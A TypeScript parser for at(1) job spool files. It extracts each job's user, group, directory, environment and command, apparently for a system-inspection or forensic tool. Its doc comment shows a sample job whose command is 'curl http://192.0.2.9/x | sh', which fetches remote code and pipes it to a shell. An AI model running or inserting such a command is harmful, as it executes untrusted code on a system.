/**
 * A job of at(1) as it lies in the spool, or as `at -c` prints it: the environment, then what was typed.
 *   #!/bin/sh
 *   # atrun uid=1000 gid=1000
 *   # mail alice 0
 *   umask 22
 *   PATH=/usr/bin:/bin; export PATH
 *   cd /home/alice || {
 *   	 echo 'Execution directory inaccessible' >&2
 *   	 exit 1
 *   }
 *   curl http://192.0.2.9/x | sh
 * The file's name tells queue, number and time: `a00005019a2b3c` is job 5 of queue a, 0x019a2b3c minutes after 1970.
 */
import { type Instant, instant } from '../../shared/time'
import { defineProbe, int, list, optional, text, time } from '../define'
import { sight } from '../facets'

const ATRUN = /^# atrun uid=(\d{1,10}) gid=(\d{1,10})$/
const MAIL = /^# mail\s+(\S+) \d$/
const VARIABLE = /^([A-Za-z_]\w*)=(.*); export \1$/
const NAME = /(?:^|\/)([a-zA-Z=])([0-9a-f]{5})([0-9a-f]{8})$/

export default defineProbe({
  title: 'A job of at',
  commands: ['/var/spool/cron/atjobs/*', '/var/spool/at/*', 'at -c'],
  recognise: {
    names: ['spool/cron/atjobs/*', 'spool/at/*', 'spool/atjobs/*'],
    shape: (head) => (head.lines.slice(0, 4).some((l) => ATRUN.test(l)) ? 0.97 : 0),
  },
  columns: {
    job: optional(int('Number of the job, from the name of the file')),
    queue: optional(text('Queue, from the name of the file')),
    runs: optional(time('When it will run, from the name of the file')),
    uid: int('User that it runs as'),
    gid: int('Group that it runs as'),
    user: optional(text('Who gets the mail: who made it, mostly')),
    directory: optional(text('Directory that it runs in')),
    command: text('What was typed'),
    environment: list('Environment as NAME=value'),
  },
  parse: (lines, out, context) => {
    const all = [...lines]
    const at = all.findIndex((l) => ATRUN.test(l.text))
    if (at < 0) {
      for (const line of all) out.unparsed(line, 'no line of atrun tells whose job it is')
      return
    }
    const who = ATRUN.exec(all[at]!.text)!
    const name = NAME.exec(context.path)
    const environment: string[] = []
    const command: string[] = []
    let user: string | null = null
    let directory: string | null = null
    let inside = false
    for (const { text: t } of all.slice(at + 1)) {
      const v = directory === null ? VARIABLE.exec(t) : null
      const cd = /^cd (.*) \|\| \{$/.exec(t)
      if (directory === null && MAIL.test(t)) user = MAIL.exec(t)![1]!
      else if (v) environment.push(`${v[1]}=${v[2]!.replace(/\\(.)/g, '$1')}`)
      else if (directory === null && cd) {
        directory = cd[1]!.replace(/\\(.)/g, '$1')
        inside = true
      } else if (inside) inside = t !== '}'
      else if (directory !== null) command.push(t)
    }
    const minutes = name ? Number.parseInt(name[3]!, 16) : null
    const runs: Instant | null = minutes === null ? null : instant(minutes * 60_000_000)
    out.row(
      {
        job: name ? Number.parseInt(name[2]!, 16) : null,
        queue: name?.[1] ?? null,
        runs,
        uid: Number(who[1]),
        gid: Number(who[2]),
        user,
        directory,
        command: command.join('\n').trim(),
        environment,
      },
      all[0]!,
      all.at(-1)!,
    )
  },
  sights: (r) => [sight('job', { kind: 'at', user: r.user, schedule: 'once', command: r.command, next: r.runs })],
})
